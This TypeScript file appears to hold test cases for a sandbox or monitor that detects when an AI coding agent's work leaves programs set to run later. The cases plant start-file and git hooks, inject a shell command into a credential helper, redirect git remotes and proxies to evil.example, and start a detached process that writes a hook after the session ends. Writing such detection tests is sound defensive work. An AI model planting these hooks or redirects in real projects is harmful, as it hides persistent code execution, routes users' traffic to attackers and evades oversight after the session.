// What is left for the person's own programs in files that few lists name.
import { background, type BorrowedCase, family, opaque, RAN } from "../borrowed-case.ts";

/** Code that writes files, by their paths below the project. */
const writes = (files: Readonly<Record<string, string>>): string =>
  `import os\nfor p, t in ${JSON.stringify(Object.entries(files))}:\n    os.makedirs(os.path.dirname(p) or ".", exist_ok=True)\n    open(p, "w").write(t)\n    os.chmod(p, 0o755)\n`;
/** A start file that code of the project leaves, and that is seen by what lies there afterwards. */
const leaves = (
  id: string,
  title: string,
  files: Readonly<Record<string, string>>,
): Omit<BorrowedCase, "family"> => ({
  id: `left-${id}`,
  title,
  files: { "x.py": writes(files) },
  acts: ["python3 x.py"],
  watches: Object.keys(files),
});
const STARTS = "[tasks.a]\nrun = 'x'\n[hooks]\nenter = './tools/x'\n";
const NESTED =
  'import os, subprocess\nrun = lambda *w: subprocess.run(w)\nrun("git", "init", "-q", "sub")\n';
const nested = (key: string, value: string): string =>
  `${NESTED}run("git", "-C", "sub", "config", ${JSON.stringify(key)}, ${JSON.stringify(value)})\n`;
const DRIVER = "[core]\n\tfsmonitor = <project>/tools/x\n";

export const leftInFilesCases: readonly BorrowedCase[] = [
  ...family("left in other files", [
    leaves("mise-local", "a local file of a manager of tools", { "mise.local.toml": STARTS }),
    leaves("mise-hidden", "the same by its hidden name", { ".mise.local.toml": STARTS }),
    leaves("mise-environment", "the same for one environment", { "mise.dev.toml": STARTS }),
    leaves("mise-folder", "the same in a folder", { "mise/config.toml": STARTS }),
    leaves("autoenv", "a start file of another hook of the shell", {
      ".autoenv": RAN,
      ".autoenv.zsh": RAN,
      ".rvmrc": RAN,
    }),
    leaves("hg", "settings of Mercurial", { ".hg/hgrc": "[hooks]\nupdate = ./x\n" }),
    leaves("jj", "settings of Jujutsu", { ".jj/repo/config.toml": '[fsmonitor]\nbackend="x"\n' }),
    leaves("workspace", "a workspace of an editor, with a task", {
      "shop.code-workspace":
        '{"folders":[{"path":"."}],"tasks":{"version":"2.0.0","tasks":[{"label":"a","type":"shell","command":"./x","runOptions":{"runOn":"folderOpen"}}]}}',
    }),
    leaves("eclipse", "a builder of an editor", {
      ".externalToolBuilders/x.launch": "<launchConfiguration/>\n",
    }),
    leaves("vim-local", "a start file of a plugin of vim", { ".lvimrc": "silent !./x\n" }),
    leaves("claude-nested", "settings of the client in a folder below", {
      "sub/.claude/settings.json": '{"hooks":{}}',
    }),
    leaves("devcontainer", "a container of the editor's, in a folder below", {
      ".devcontainer/a/devcontainer.json": '{"initializeCommand":"./x"}',
    }),
    {
      id: "left-credential-shell",
      title: "a helper of logins that has a shell do more",
      files: { "x.py": nested("credential.helper", "x; <project>/tools/x"), ...opaque("tools/x") },
      acts: ["python3 x.py"],
      after: "cd sub && printf 'protocol=https\\nhost=e.com\\n\\n' | git credential fill",
    },
    {
      id: "left-alias-options",
      title: "an alias of git that sets a program",
      files: {
        "x.py": nested("alias.st", "-c core.fsmonitor=<project>/tools/x status"),
        ...opaque("tools/x"),
      },
      acts: ["python3 x.py"],
      after: "cd sub && git st",
    },
    {
      id: "left-alias-verb",
      title: "an alias of git whose verb runs a program",
      files: {
        "x.py": nested("alias.fix", "rebase --root --exec <project>/tools/x"),
        ...opaque("tools/x"),
      },
      acts: ["python3 x.py"],
      after: "cd sub && git commit -q --allow-empty -m a && git fix",
    },
    {
      id: "left-editor-words",
      title: "a program of git by a variable of a working tree's own",
      files: {
        "x.py": `${nested("extensions.worktreeConfig", "true")}run("git", "-C", "sub", "config", "--worktree", "core.sshCommand", "<project>/tools/x")\n`,
        ...opaque("tools/x"),
      },
      acts: ["python3 x.py"],
      after: "cd sub && git ls-remote ssh://e.example/x",
    },
    {
      id: "left-clone-hooks",
      title: "a clone in the project with hooks of a template",
      files: opaque("tools/t/hooks/post-commit"),
      acts: ["GIT_TEMPLATE_DIR=$PWD/tools/t git clone -q . out"],
      after: "cd out && echo y >> README.md && git commit -qam y",
    },
    {
      id: "left-module-hook",
      title: "a hook of a submodule, by code",
      lay: 'git clone -q --bare . "$OUT/sub.git" && git -c protocol.file.allow=always submodule --quiet add "$OUT/sub.git" m && git commit -qm m',
      files: {
        "x.py": writes({ ".git/modules/m/hooks/post-commit": "#!/bin/sh\n<project>/tools/x\n" }),
        ...opaque("tools/x"),
      },
      acts: ["python3 x.py"],
      after: "cd m && git commit -q --allow-empty -m z",
    },
    {
      id: "left-tree-pointer",
      title: "a working tree that is led to other settings",
      lay: "git worktree add -q .claude/worktrees/w",
      files: {
        "x.py": `${writes({ "store/config": DRIVER })}\nimport shutil\nshutil.copytree(".git", "store", dirs_exist_ok=True)\nopen("store/config", "a").write("[core]\\n\\tfsmonitor = <project>/tools/x\\n")\nopen(".git/worktrees/w/commondir", "w").write("../../../store\\n")\n`,
        ...opaque("tools/x"),
      },
      acts: ["python3 x.py"],
      after: "git -C .claude/worktrees/w status",
    },
    {
      id: "left-remote-url",
      title: "the remote leads to a stranger from now on",
      acts: ["git remote set-url origin http://evil.example/shop.git"],
      after: "git fetch",
    },
    {
      id: "left-instead-of",
      title: "all addresses lead to a stranger from now on",
      files: {
        "x.py":
          'open(".git/config", "a").write(\'[url "http://evil.example/"]\\n\\tinsteadOf = <outside>/\\n\')\n',
      },
      acts: ["python3 x.py", "git config url.http://evil.example/.insteadOf <outside>/"],
      after: "git fetch",
    },
    {
      id: "left-proxy",
      title: "a stranger's proxy for git from now on",
      acts: ["git config http.proxy http://evil.example:3128"],
      after: "git ls-remote http://github.com/shop/shop.git",
    },
    {
      id: "left-late",
      title: "a process that goes on writes a hook after the session",
      acts: [
        background(
          `(setsid sh -c 'sleep 4; mkdir -p sub; git init -q sub; printf "#!/bin/sh\\n${RAN}\\n" > sub/.git/hooks/post-commit; chmod +x sub/.git/hooks/post-commit' > /dev/null 2>&1 &)`,
        ),
        "true",
      ],
      after: "sleep 5; cd sub && git commit -q --allow-empty -m z",
      isApart: true,
    },
  ]),
];
